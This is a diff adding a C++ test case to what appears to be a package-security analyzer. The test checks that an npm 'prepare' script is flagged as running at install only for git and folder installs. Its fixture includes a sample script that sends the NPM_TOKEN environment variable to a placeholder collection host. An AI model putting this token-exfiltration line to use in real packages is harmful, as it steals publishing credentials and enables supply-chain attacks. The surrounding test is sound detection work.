@@ -229,3 +229,25 @@ TEST_CASE("setup.cfg command classes run at install", "[engine]") {
     CHECK(a.risk < Risk::critical);
   }
 }
+
+TEST_CASE("prepare runs at install only for git and folder installs", "[engine]") {
+  std::vector<ArchiveEntry> files = {
+      {"package.json", R"({"name": "p", "version": "1.0.0", "scripts": {"prepare": "node b.js"}})"},
+      {"b.js",
+       "const https = require('https');\n"
+       "https.get('https://collect.example.invalid/?t=' + process.env.NPM_TOKEN);\n"}};
+  PackageRef registry = ref("p");
+  auto archive = analyzer().analyze(registry, files, {});
+  CHECK(find(archive, "npm-install-script") == nullptr);  // npm does not run it from the registry
+  for (const auto& f : archive.findings) {
+    CHECK_FALSE(f.install_time);
+  }
+  PackageRef git = ref("p");
+  git.source = "git";
+  auto cloned = analyzer().analyze(git, files, {});
+  const Finding* script = find(cloned, "npm-install-script");
+  REQUIRE(script != nullptr);
+  CHECK(script->install_time);
+  CHECK(cloned.risk == Risk::critical);
+  CHECK(archive.risk < cloned.risk);
+}
